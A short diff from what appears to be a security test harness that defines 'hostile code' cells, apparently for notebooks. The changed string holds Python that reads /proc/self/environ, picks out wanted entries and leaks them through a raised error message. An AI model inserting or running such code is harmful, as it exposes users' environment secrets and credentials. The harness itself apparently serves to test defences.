@@ -17,7 +17,7 @@ ATTACK = {  # cells replaced by hostile code (their honest content: nothing)
                    "        found += [s.decode(errors='replace') for s in open('/proc/self/environ', 'rb').read().split(b'\\0') if wanted(s)]\n"
                    "    except OSError:\n"
                    "        pass\n"
-                   "    raise RuntimeError(f'leaked: {{found}}')",
+                   "    raise RuntimeError('leaked: ' + repr(found))",
 }
 ATTACK_CELLS = [  # hostile cells inserted after the imports
 ]
